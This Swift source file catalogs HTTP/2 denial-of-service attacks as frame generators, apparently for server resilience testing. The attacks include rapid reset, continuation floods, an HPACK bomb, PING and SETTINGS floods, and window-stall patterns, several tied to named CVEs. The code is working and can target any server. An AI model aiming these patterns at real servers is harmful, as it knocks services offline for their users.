extension HTTP2Attack {
    /// Every attack.
    package static let all: [HTTP2Attack] = resets + blocks + controls + windows + tables + silences

    /// A request as one HEADERS frame's fields.
    private static func request(_ method: String, _ path: String, _ target: HTTP2Target) -> [HTTP2Field] {
        [
            (":method", method), (":scheme", target.isTLS ? "https" : "http"), (":path", path),
            (":authority", target.authority),
        ].map { HTTP2Field($0.0, $0.1) }
    }

    /// The field block of a request.
    private static func block(_ method: String, _ path: String, _ target: HTTP2Target) -> [UInt8] {
        FieldBlock(request(method, path, target)).bytes
    }

    /// The numbers of the streams of a round that opens so many.
    private static func streams(_ round: UInt32, _ count: UInt32) -> [UInt32] {
        (0..<count).map { 1 + 2 * (round * count + $0) }
    }

    /// Rounds of the same frame so often.
    private static func always(_ count: Int, _ frame: HTTP2Frame) -> Round {
        let same = Array(repeating: frame, count: count).flatMap(\.bytes)
        return { _, _ in same }
    }

    /// Rounds whose frames differ.
    private static func each(_ frames: @escaping @Sendable (UInt32, HTTP2Target) -> [HTTP2Frame]) -> Round {
        { number, target in frames(number, target).flatMap(\.bytes) }
    }

    private static let resets: [HTTP2Attack] = [
        HTTP2Attack(
            "rapid-reset", "Requests that are reset at once (CVE-2023-44487)", rounds: 1_000,
            round: each { number, target in
                let block = block("GET", "/bytes/10000", target)
                return streams(number, 50).flatMap { [.headers($0, block), .resetStream($0)] }
            }),
        HTTP2Attack(
            "made-you-reset", "Requests whose client makes the server reset them (CVE-2025-8671)", rounds: 1_000,
            round: each { number, target in
                let block = block("POST", "/echo", target)
                return streams(number, 50).flatMap { [.headers($0, block, ends: false), .windowUpdate($0, 0)] }
            }),
        HTTP2Attack(
            "malformed", "Requests that are malformed, each of which the server has to reset", rounds: 1_000,
            round: each { number, target in
                let block = FieldBlock(request("GET", "/", target) + [HTTP2Field("Upper", "1")]).bytes
                return streams(number, 50).map { .headers($0, block) }
            }),
        HTTP2Attack(
            "reset-idle", "RST_STREAM on streams that were never opened", rounds: 1_000,
            round: each { number, _ in streams(number, 100).map { .resetStream($0) } }),
        HTTP2Attack(
            "too-many-streams", "Requests above the limit of streams, each of which is refused", rounds: 400,
            round: each { number, target in
                let block = block("POST", "/hold", target)
                return streams(number, 50).map { .headers($0, block, ends: false) }
            }),
    ]

    private static let blocks: [HTTP2Attack] = [
        HTTP2Attack(
            "continuation", "A field block that does not end (CVE-2024-27316)",
            first: { .headers(1, block("GET", "/", $0), isWhole: false) },
            rounds: 4_000,
            round: each { number, _ in
                var block = FieldBlock()
                block.literal(HTTP2Field("x-\(number)", String(repeating: "a", count: 16_000)), form: .never)
                return [.continuation(1, block.bytes, isLast: false)]
            }),
        HTTP2Attack(
            "empty-continuation", "A field block that goes on with empty frames (CVE-2019-9518)",
            first: { .headers(1, block("GET", "/", $0), isWhole: false) },
            rounds: 1_000, round: always(500, .continuation(1, isLast: false))),
        HTTP2Attack(
            "header-list", "Requests of a megabyte of fields", rounds: 64,
            round: each { number, target in
                let stream = 1 + 2 * number
                var filler = FieldBlock()
                filler.literal(HTTP2Field("x-filler", String(repeating: "b", count: 16_000)), form: .never)
                let middle = Array(
                    repeating: HTTP2Frame.continuation(stream, filler.bytes, isLast: false), count: 63)
                let first = HTTP2Frame.headers(stream, block("GET", "/", target), isWhole: false)
                return [first] + middle + [.continuation(stream, filler.bytes)]
            }),
        HTTP2Attack(
            "empty-names", "Fields with empty names and values (CVE-2019-9516)", rounds: 1_000,
            round: each { number, target in
                let fields = [UInt8](repeating: 0, count: 12_000)
                return [.headers(1 + 2 * number, block("GET", "/", target) + fields)]
            }),
    ]

    private static let controls: [HTTP2Attack] = [
        HTTP2Attack(
            "settings", "SETTINGS that have to be acknowledged (CVE-2019-9515)", rounds: 1_000,
            round: always(200, .settings([(.initialWindowSize, 65_535)]))),
        HTTP2Attack(
            "settings-unread", "SETTINGS of a client that does not read the acknowledgements", reads: false,
            rounds: 4_000, round: always(500, .settings())),
        HTTP2Attack(
            "large-settings", "SETTINGS as long as they may be", rounds: 1_000,
            round: always(1, .settings((0..<2_730).map { (UInt16(0x4000) + UInt16($0), 1) }))),
        HTTP2Attack("ping", "PING that has to be answered (CVE-2019-9512)", rounds: 1_000, round: always(500, .ping())),
        HTTP2Attack(
            "ping-unread", "PING of a client that does not read the answers", reads: false, rounds: 4_000,
            round: always(500, .ping())),
        HTTP2Attack(
            "priority", "PRIORITY that changes all the time (CVE-2019-9513)", rounds: 1_000,
            round: each { number, _ in
                (0..<500).map { .priority(1 + 2 * (($0 + number) % 100), on: 2 * ($0 % 50) + 201) }
            }),
        HTTP2Attack("go-away", "GOAWAY again and again", rounds: 1_000, round: always(200, .goAway())),
        HTTP2Attack(
            "unknown-frames", "Frames of a type that has to be ignored", rounds: 1_000,
            round: always(500, HTTP2Frame(type: 0x42, flags: 0, stream: 0, payload: []))),
    ]

    private static let windows: [HTTP2Attack] = [
        HTTP2Attack(
            "empty-data", "DATA without data (CVE-2019-9518)",
            first: { .headers(1, block("POST", "/echo", $0), ends: false) },
            rounds: 1_000, round: always(500, .data(1))),
        HTTP2Attack(
            "zero-window", "Requests for large answers that no window lets out (CVE-2019-9517)",
            settings: [(.initialWindowSize, 0)], rounds: 100,
            round: each { number, target in
                let block = block("GET", "/bytes/100000", target)
                return streams(number, 50).map { .headers($0, block) }
            }),
        HTTP2Attack(
            "window-drip", "Windows that grow by one byte at a time (CVE-2019-9511)",
            settings: [(.initialWindowSize, 0)], rounds: 2_000,
            round: each { number, target in
                let block = block("GET", "/bytes/100000", target)
                return streams(0, 50).map { number == 0 ? .headers($0, block) : .windowUpdate($0, 1) }
            }),
        HTTP2Attack(
            "window-update", "WINDOW_UPDATE that changes nothing", rounds: 1_000,
            round: always(500, .windowUpdate(0, 1))),
    ]

    private static let tables: [HTTP2Attack] = [
        HTTP2Attack(
            "hpack-bomb", "One large entry of the table, named thousands of times (CVE-2016-6581)",
            first: { target in
                var block = FieldBlock(request("GET", "/", target))
                block.literal(HTTP2Field("x", String(repeating: "a", count: 4_000)), form: .adding)
                return .headers(1, block.bytes)
            },
            rounds: 200,
            round: each { number, target in
                let bomb = [UInt8](repeating: 0x80 | 62, count: 16_000)
                return [.headers(3 + 2 * number, block("GET", "/", target) + bomb)]
            }),
        HTTP2Attack(
            "table-size", "Field blocks that change the table's size thousands of times", rounds: 500,
            round: each { number, target in
                var sizes = FieldBlock()
                for _ in 0..<3_000 {
                    sizes.tableSize(0)
                    sizes.tableSize(4_096)
                }
                return [.headers(1 + 2 * number, sizes.bytes + block("GET", "/", target))]
            }),
    ]

    private static let silences: [HTTP2Attack] = [
        HTTP2Attack(
            "half-preface", "Half of the preface and nothing more", only: { _ in Array(HTTP2Frame.preface.prefix(12)) }),
        HTTP2Attack(
            "half-frame", "The head of a frame and nothing more",
            only: { _ in HTTP2Frame.preface + HTTP2Frame.settings().bytes + [0, 0, 200, 1, 4, 0, 0, 0, 1] }),
        HTTP2Attack(
            "half-headers", "A field block that stops",
            only: { target in
                let half = HTTP2Frame.headers(1, block("GET", "/", target), isWhole: false).bytes
                return HTTP2Frame.preface + HTTP2Frame.settings().bytes + half
            }),
    ]
}
